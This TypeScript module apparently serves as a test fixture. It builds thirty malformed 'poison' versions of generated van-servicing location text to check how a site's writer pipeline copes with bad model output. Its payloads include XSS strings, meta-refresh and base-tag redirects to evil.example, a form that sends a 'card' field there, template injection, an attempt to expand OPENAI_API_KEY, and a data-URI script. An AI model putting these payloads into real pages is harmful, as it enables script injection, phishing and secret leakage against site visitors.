import type { Item, LocationText } from "../writer/location-text.ts";

const addToParagraph = (text: LocationText, poison: string): LocationText => {
  const [first, ...rest] = text.servicing;
  if (!first) return text;
  const [opening = [], ...others] = first.paragraphs;
  return { ...text, servicing: [{ ...first, paragraphs: [addTo(opening, poison), ...others] }, ...rest] };
};

/** Appends text to the first sentence that the writer composed itself. */
function addTo(items: readonly Item[], poison: string): Item[] {
  const first = items.findIndex((item) => "text" in item);
  return items.map((item, i) => (i === first && "text" in item ? { ...item, text: `${item.text} ${poison}` } : item));
}

const addToAnswer = (text: LocationText, poison: string): LocationText => ({
  ...text,
  faqs: text.faqs.map((faq, i) => (i === 0 ? { ...faq, answer: addTo(faq.answer, poison) } : faq)),
});

const replaceParagraphs = (text: LocationText, paragraph: string): LocationText => {
  const replace = (sections: LocationText["mot"]) =>
    sections.map((section) => ({ ...section, paragraphs: [[{ text: paragraph, basis: ["place.kind"] }]] }));
  return { ...text, servicing: replace(text.servicing), mot: replace(text.mot) };
};

const lorem =
  "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua ut enim ad minim veniam.";

type Poison = (text: LocationText, name: string) => unknown;

/**
 * The thirty harmful texts in the order of their modes: markup, attempts to escape it, unusual characters, nonsense.
 */
const poisons: readonly Poison[] = [
  (text) => addToParagraph(text, "<script>alert(1)</script>"),
  (text) => addToParagraph(text, "<img src=x onerror=alert(1)>"),
  (text) => addToParagraph(text, '<a href="javascript:alert(1)">quotes</a>'),
  (text) => addToParagraph(text, "<svg/onload=alert(1)>"),
  (text) => addToParagraph(text, '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  (text) => addToParagraph(text, "<style>*{display:none}</style>"),
  (text) => addToParagraph(text, "<base href=//evil.example>"),
  (text) => addToParagraph(text, '<meta http-equiv="refresh" content="0;url=//evil.example">'),
  (text) => addToParagraph(text, '<form action="//evil.example"><input name="card"></form>'),
  (text) => addToAnswer(text, "</script><script>alert(1)</script>"),
  (text) => ({ ...text, servicingMetaTitle: `${text.servicingMetaTitle.slice(0, 30)}" onmouseover="alert(1)` }),
  (text) => ({ ...text, motMetaDescription: `${text.motMetaDescription.slice(0, 90)}\n\u0000and more` }),
  (text) => addToAnswer(text, "Line\u2028break and paragraph\u2029break."),
  (text) => addToParagraph(text, "\u202egnicivres nav\u202c"),
  (text) => addToParagraph(text, "v̷̡̛̖̗a̸̢̧̛̘n̵̨̛̙̜ s̶̡̛̝̞e̷̢̛̟̠ṛ̸̡̛̤v̵̢̛̥̦i̶̧̛̩̪c̷̨̛̫̬ḙ̸̡̛̮"),
  (text) => addToParagraph(text, "{{constructor.constructor('alert(1)')()}}"),
  (text) => addToParagraph(text, "${process.env.OPENAI_API_KEY}"),
  (text) => addToParagraph(text, "See data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== for quotes."),
  (text) => addToParagraph(text, "<!-- the rest of the page"),
  (text) => addToParagraph(text, "van ".repeat(262_144)),
  () => "",
  () => "   \n  ",
  (text) =>
    replaceParagraphs(
      text,
      "I'm sorry, but I can't help with writing this text about vans, so nothing of use follows here today for anybody.",
    ),
  (text) => addToParagraph(text, "As an AI language model, I have no opinion about garages."),
  (text) => replaceParagraphs(text, lorem),
  (text) => `\`\`\`json\n${JSON.stringify(text)}\n\`\`\``,
  (text) => ({ ...text, faqs: { question: text.faqs[0]?.question, answer: text.faqs[0]?.answer } }),
  (text) => ({ ...text, faqs: Array.from({ length: 500 }, (_, i) => text.faqs[i % text.faqs.length]) }),
  (text, name) => JSON.stringify(text).replaceAll(name, name === "Timbuktu" ? "Samarkand" : "Timbuktu"),
  (text) => addToParagraph(text, "Or try [a cheaper garage](https://rival-garages.example/vans) instead."),
];

/** Returns the model output of the mode `poison-{number}`, based on a normal text. */
export function buildPoisonText(number: number, text: LocationText, locationName: string): string {
  const output = poisons[number - 1]?.(text, locationName) ?? text;
  return typeof output === "string" ? output : JSON.stringify(output);
}
